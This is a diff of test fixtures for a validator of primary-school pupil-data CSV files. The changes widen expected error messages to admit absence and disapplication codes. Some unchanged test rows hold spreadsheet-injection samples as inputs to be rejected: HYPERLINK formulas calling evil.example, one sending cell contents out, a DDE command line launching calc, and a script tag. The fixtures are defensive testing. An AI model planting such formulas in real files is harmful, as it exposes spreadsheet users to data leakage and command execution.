@@ -88,7 +88,7 @@ drop("unnamed-column.csv", csv(*[r + "," for r in GOOD], header=HEADER + ","), "
 drop("header-formula.csv", csv(*GOOD, header="\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"upn\"\")\"" + HEADER[3:]),
      "\"=HYPERLINK(\\\"http://evil.example/\\\",\\\"upn\\\")\" (column 1) is not a data-drop column", "a spreadsheet formula as a column name")
 # --- values
-drop("wrong-judgement-code.csv", csv(GOOD[0], row(2, reading="Exceeding")), "line 3, column reading: \"Exceeding\" is not a judgement (BLW, WTS, EXS or GDS)", "a judgement from another framework")
+drop("wrong-judgement-code.csv", csv(GOOD[0], row(2, reading="Exceeding")), "line 3, column reading: \"Exceeding\" is not a judgement (BLW, WTS, EXS or GDS; or A absent, D disapplied, J new arrival)", "a judgement from another framework")
 drop("wrong-send-code.csv", csv(GOOD[0], row(2, send="SEN")), "line 3, column send: \"SEN\" is not a SEND code (N, K or E)", "an old SEND code")
 drop("wrong-yes-no.csv", csv(row(1, pp="TRUE")), "line 2, column pp: \"TRUE\" is not Y or N", "a spreadsheet's TRUE for Y")
 drop("duplicate-pupil.csv", csv(*GOOD, row(2)), "line 6, column upn: \"", "one pupil twice")
@@ -97,8 +97,8 @@ drop("temporary-upn.csv", csv(row(1, upn=upn(1)[:12] + "A")), "is a temporary UP
 drop("year-7.csv", csv(GOOD[0], row(2, year="7")), "line 3, column year: \"7\" is not a primary year (N, R, 1–6)", "a secondary pupil")
 drop("judgements-on-nursery.csv", csv(GOOD[0], row(2, year="N", reading="EXS")), "line 3, column reading: \"EXS\" is given for a nursery pupil, but reading is for years 1–6 only", "a judgement on a nursery row")
 drop("gld-on-year-3.csv", csv(row(1, gld="Y")), "line 2, column gld: \"Y\" is given for a year 3 pupil, but gld is for reception only", "gld outside reception")
-drop("phonics-out-of-range.csv", csv(row(1, year="1", phonics="41")), "line 2, column phonics: \"41\" is not a whole number from 0 to 40", "a phonics score of 41")
-drop("missing-required-value.csv", csv(row(1, maths="")), "line 2, column maths: a value is required for year 3 (BLW, WTS, EXS or GDS)", "an empty maths judgement")
+drop("phonics-out-of-range.csv", csv(row(1, year="1", phonics="41")), "line 2, column phonics: \"41\" is not a whole number from 0 to 40; or A absent, D disapplied, J new arrival", "a phonics score of 41")
+drop("missing-required-value.csv", csv(row(1, maths="")), "line 2, column maths: a value is required for year 3 (BLW, WTS, EXS or GDS; or A absent, D disapplied, J new arrival)", "an empty maths judgement")
 drop("formula-hyperlink.csv", csv(row(1, gender='"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"')), "line 2, column gender: \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,…\" is not a gender code", "a spreadsheet formula in a value")
 drop("formula-plus-minus-at.csv", csv(row(1, eal="+cmd|' /C calc'!A0")), "line 2, column eal: \"+cmd|' /C calc'!A0\" is not Y or N", "a DDE-style formula")
 drop("script-in-value.csv", csv(row(1, gender="<script>alert(1)</script>")), "line 2, column gender: \"<script>alert(1)</script>\" is not a gender code", "HTML in a value")
